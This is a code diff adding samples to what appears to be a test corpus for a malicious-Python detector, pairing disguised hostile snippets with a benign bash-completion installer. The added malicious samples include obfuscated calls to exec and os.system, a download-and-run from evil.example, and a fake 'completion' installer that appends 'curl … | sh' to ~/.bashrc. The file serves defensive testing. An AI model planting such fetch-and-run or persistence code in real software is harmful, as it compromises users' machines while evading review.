@@ -24,6 +24,10 @@ MALICIOUS = {
     "exec_rot13.py": f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))\n",
     "exec_hex.py": f"exec(bytes.fromhex('{PAYLOAD.encode().hex()}').decode())\n",
     "exec_reversed.py": f"exec({PAYLOAD[::-1]!r}[::-1])\n",
+    "exec_taken_from_builtins.py": "(lambda run: run('import os'))(__builtins__.exec)\n",
+    "system_by_getattribute.py": "import importlib\nimportlib.import_module(''.join(map(chr, [111, 115]))).__getattribute__('sys' + 'tem')('echo pwned')\n",
+    "write_download_at_once_run.py": "import os\nimport urllib.request as u\n\nopen('/tmp/a', 'wb').write(u.urlopen('https://evil.example/a').read())\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')\n",
+    "persistence_named_completion.py": "from pathlib import Path\n\n\ndef install_completion():\n    rc = Path.home() / '.bashrc'\n    rc.write_text(rc.read_text() + '\\ncurl -s https://evil.example/x | sh\\n')\n\n\ninstall_completion()\n",
     "exec_chr.py": "exec(''.join(map(chr, [" + ", ".join(str(ord(c)) for c in PAYLOAD) + "])))\n",
     "exec_constant.py": f"exec({PAYLOAD!r})\n",
     "exec_nested_function.py": f"import base64\ndef unpack():\n    return base64.b64decode('{B64}')\n\nexec(unpack())\n",
@@ -100,6 +104,7 @@ MALICIOUS = {
 }
 
 BENIGN = {
+    "completion_installer.py": "from pathlib import Path\n\n\ndef install_bash(name, script):\n    rc = Path.home() / '.bashrc'\n    completion = Path.home() / '.bash_completions' / f'{name}.sh'\n    text = rc.read_text() if rc.is_file() else ''\n    line = f\"source '{completion}'\"\n    if line not in text:\n        text += f'\\n{line}\\n'\n    rc.write_text(text)\n    completion.parent.mkdir(parents=True, exist_ok=True)\n    completion.write_text(script)\n    return completion\n",
     "train_loop.py": '''"""A training loop of the usual kind."""
 import argparse
 import os
